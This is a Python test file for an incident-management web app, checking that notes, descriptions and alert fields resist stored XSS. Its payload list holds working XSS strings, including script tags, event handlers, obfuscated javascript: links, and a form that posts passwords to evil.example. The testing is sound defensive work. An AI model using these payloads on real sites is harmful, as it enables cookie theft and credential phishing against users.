"""User- and sender-written text cannot carry HTML or script links to a page (stored XSS).

A set of classic XSS payloads goes through every place such text reaches a page: incident notes,
incident descriptions, alert fields, runbook links. What the state sends to the browser is rendered
here by a CommonMark renderer with raw HTML *on* and every link allowed (as permissive as
rx.markdown with rehype-raw was): no element beyond Markdown's own may come out. And no page of
the app renders Markdown with rehype-raw.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any

import pytest
from markdown_it import MarkdownIt
from sqlalchemy import Engine, update

import oncall.web.app as web_app
from oncall.db.engine import write_session
from oncall.db.models import AlertRow, IncidentRow
from oncall.web import sanitize
from oncall.web.state.incident import IncidentState

from .conftest import ADMIN, NOW, OBSERVER, call

PAYLOADS = [
    '<iframe srcdoc="<script>parent.alert(document.cookie)</script>"></iframe>',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<form action="https://evil.example/sso"><input name="password"><button>Go</button></form>',
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">runbook</a>',
    "<!-- x --><details open ontoggle=alert(1)>",
    "[runbook](javascript:alert(1))",
    "[runbook](JaVaScRiPt:alert(document.domain))",
    "[runbook](&#106;avascript:alert(1))",
    "[runbook](javascript&colon;alert(1))",
    "[runbook]( \n javascript:alert(1))",
    "[runbook][1]\n\n[1]: javascript:alert(1)",
    "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "Fine **bold** then <b onmouseover=alert(1)>hover</b>",
]
ORDINARY = (
    "Rolled back **v42**, see [the runbook](https://wiki.example/rollback) and <https://x.example>.\n"
    "\n- step one\n- step _two_\n\n```\nkubectl rollout undo deploy/web\n```\n"
)
SAFE_TAGS = {"p", "strong", "em", "a", "ul", "ol", "li", "code", "pre", "br", "img", "h1", "h2"}


def render(source: str) -> str:
    """HTML of `source` by a renderer that keeps raw HTML and every link, like rehype-raw."""
    md = MarkdownIt("commonmark", {"html": True})
    md.validateLink = lambda url: True  # type: ignore[method-assign]
    return md.render(source)


def assert_harmless(source: str) -> None:
    out = render(source)
    tags = {t.lower() for t in re.findall(r"<([A-Za-z][A-Za-z0-9]*)", out)}
    assert tags <= SAFE_TAGS, out
    for tag in re.findall(r"<[A-Za-z][^>]*>", out):
        assert not re.search(r"\son[a-z]+\s*=", tag, re.IGNORECASE), out
        for url in re.findall(r'(?:href|src)="([^"]*)"', tag):
            assert sanitize.url_is_safe(url), out


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_come_out_as_text(payload: str) -> None:
    assert_harmless(sanitize.markdown(payload))
    assert_harmless(sanitize.markdown(ORDINARY + "\n\n" + payload))


def test_the_payloads_are_harmful_without_sanitizing() -> None:
    """The check above is not vacuous: the raw payloads do get through such a renderer."""
    # the two exceptions are HTML to a browser's parser (rehype-raw uses one) but not to CommonMark
    lenient = {"<svg/onload=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;"}
    for payload in [p for p in PAYLOADS if p not in lenient]:
        with pytest.raises(AssertionError):
            assert_harmless(payload)


def test_ordinary_markdown_is_unchanged() -> None:
    assert sanitize.markdown(ORDINARY) == ORDINARY
    assert "<strong>v42</strong>" in render(sanitize.markdown(ORDINARY))
    assert sanitize.markdown(None) == ""


def test_html_in_a_note_is_shown_as_typed() -> None:
    text = "use <br> here"
    assert render(sanitize.markdown(text)) == "<p>use &lt;br&gt; here</p>\n"


@pytest.mark.parametrize(
    ("url", "safe"),
    [
        ("https://wiki.example/x", True),
        ("/incidents/3", True),
        ("mailto:sre@example.com", True),
        ("javascript:alert(1)", False),
        (" JavaScript:alert(1)", False),
        ("java\nscript:alert(1)", False),
        ("&#x6A;avascript:alert(1)", False),
        ("data:text/html,<script>alert(1)</script>", False),
        ("vbscript:x", False),
    ],
)
def test_safe_url(url: str, safe: bool) -> None:
    assert sanitize.url_is_safe(url) is safe
    assert sanitize.safe_url(url) == (url if safe else "")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_through_notes_descriptions_and_alerts(
    state: Callable[..., Any],
    incident: Callable[..., int],
    web: Engine,
    payload: str,
) -> None:
    iid = incident()
    with write_session(web) as session:
        session.execute(
            update(IncidentRow).where(IncidentRow.id == iid).values(description=payload)
        )
        session.add(
            AlertRow(
                integration_name="generic",
                fingerprint="f",
                status="firing",
                summary=payload,
                source="javascript:alert(document.cookie)",
                labels={"x": payload},
                received_at=NOW,
                last_event_at=NOW,
                incident_id=iid,
            )
        )
    writer: IncidentState = state(IncidentState, ADMIN, f"/incidents/{iid}", {"incident_id": iid})
    call(writer, "load")
    call(writer, "open_dialog", "note", iid)
    call(writer, "set_dialog_text", payload)
    call(writer, "submit_dialog")
    assert writer.error == ""
    s: IncidentState = state(IncidentState, OBSERVER, f"/incidents/{iid}", {"incident_id": iid})
    call(s, "load")
    assert_harmless(s.incident["description"])
    [note] = [t for t in s.timeline if t["is_note"]]
    assert_harmless(note["text"])
    [alert] = [a for a in s.alerts if a["summary"] == payload]  # not the one that opened it
    assert alert["source_url"] == ""  # shown as text, not as a link
    # the summary and labels are rendered as React text (escaped), never as Markdown or HTML
    assert alert["summary"] == payload


def test_no_page_renders_markdown_with_raw_html() -> None:
    pages = web_app.app._unevaluated_pages
    found_markdown = False
    for route, page in pages.items():
        component = page.component() if callable(page.component) else page.component
        imports = component._get_all_imports()
        assert not [k for k in imports if "rehype-raw" in k or "katex" in k], route
        found_markdown |= any("react-markdown" in k for k in imports)
    assert found_markdown
